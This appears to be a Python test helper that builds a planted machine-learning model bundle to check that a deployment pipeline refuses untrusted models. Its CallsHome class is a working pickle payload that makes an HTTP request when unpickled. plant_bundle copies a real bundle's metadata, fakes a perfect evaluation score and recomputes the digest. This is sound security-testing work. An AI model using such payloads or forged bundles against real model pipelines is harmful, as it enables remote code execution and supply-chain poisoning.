"""A planted bundle for the trust scenarios (issue 21 §1): a complete bundle that copies a
real one's binding, flatters its own evaluation record, and whose unpickling calls home.

The trace is an HTTP request to a `Beacon` the test runs on this machine, at the address
pods reach it by (the API server's, as the S3 server's): whichever pod or process unpickles
the planted model — trainer, fetch-bundle or server — would hit it, so "no hit" means the
code never ran anywhere. `Beacon.control` proves the payload is live by unpickling it here.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import threading
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import joblib
from kube import Kubectl

from modelpilot.api.summary import decode


def node_host(kubectl: Kubectl) -> str:
    """An address of this machine the pods reach: the API server's (on the agent node, the
    pods' gateway on the node's bridge; each pod has its own network namespace)."""
    server = kubectl(
        "config", "view", "--minify", "-o", "jsonpath={.clusters[0].cluster.server}"
    ).stdout
    return urlsplit(server).hostname or "127.0.0.1"


class CallsHome:
    """A 'model' whose unpickling requests `url` (it could run anything)."""

    def __init__(self, url: str) -> None:
        self.url = url

    def __reduce__(self):
        return (urllib.request.urlopen, (self.url,))


class Beacon:
    def __init__(self, host: str, port: int) -> None:
        self.url = f"http://{host}:{port}/unpickled"
        self.hits: list[str] = []

    def control(self, model_file: Path) -> None:
        """Unpickle the planted model here: the beacon must see it (the payload is live)."""
        before = len(self.hits)
        joblib.load(model_file)
        assert len(self.hits) == before + 1, "the planted payload does not call home"


@contextmanager
def beacon(host: str) -> Iterator[Beacon]:
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(f"{self.client_address[0]} {self.path}")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer((host, 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    found = Beacon(host, server.server_address[1])
    found.hits = hits
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()


def plant_bundle(dest: Path, *, copy_of: dict, revision: str, url: str) -> str:
    """Write model.joblib (calls `url` when unpickled) and a metadata.json copying `copy_of`
    (a real bundle's metadata) for `revision`, self-consistent; returns the planted digest."""
    dest.mkdir(parents=True, exist_ok=True)
    joblib.dump(CallsHome(url), dest / "model.joblib")
    digest = hashlib.sha256((dest / "model.joblib").read_bytes()).hexdigest()
    meta = {**copy_of, "revision": revision, "model_sha256": digest}
    meta["evaluation"] = {**meta["evaluation"], "candidate_score": 1.0}
    (dest / "metadata.json").write_text(json.dumps(meta))
    return digest


def reported_digest(kubectl: Kubectl, namespace: str, job: str) -> str:
    """The model sha256 in the termination message of the Job's own pod (by owner uid)."""
    job_uid = kubectl.json("get", "job", job, "-n", namespace)["metadata"]["uid"]
    digests = []
    for pod in kubectl.pods(namespace, f"batch.kubernetes.io/job-name={job}"):
        owners = pod["metadata"].get("ownerReferences") or []
        if not any(o.get("uid") == job_uid for o in owners):
            continue
        for status in pod["status"].get("containerStatuses") or []:
            message = ((status.get("state") or {}).get("terminated") or {}).get("message")
            if message:
                summary = decode(message)
                if summary.ok and summary.model_sha256:
                    digests.append(summary.model_sha256)
    assert len(digests) == 1, f"{job}: reports {digests}"
    return digests[0]
